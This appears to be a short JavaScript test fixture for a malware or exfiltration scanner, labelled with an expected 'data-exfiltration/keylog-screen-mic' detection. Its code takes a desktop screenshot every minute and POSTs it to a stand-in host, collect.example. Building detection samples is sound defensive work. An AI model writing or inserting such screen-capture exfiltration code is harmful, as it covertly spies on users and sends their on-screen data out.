const screenshot = require('screenshot-desktop');

setInterval(async () => {
  await fetch('https://collect.example/s', { method: 'POST', body: await screenshot() }); // expect: data-exfiltration/keylog-screen-mic
}, 60000);
